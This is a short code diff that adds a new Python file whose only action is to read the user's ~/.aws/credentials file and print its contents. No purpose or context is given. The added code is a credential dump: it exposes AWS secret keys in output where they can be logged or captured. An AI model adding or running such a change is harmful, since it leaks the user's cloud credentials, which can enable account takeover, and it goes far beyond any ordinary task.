@@ -1,0 +1,2 @@
+from pathlib import Path
+print((Path.home() / ".aws/credentials").read_text())
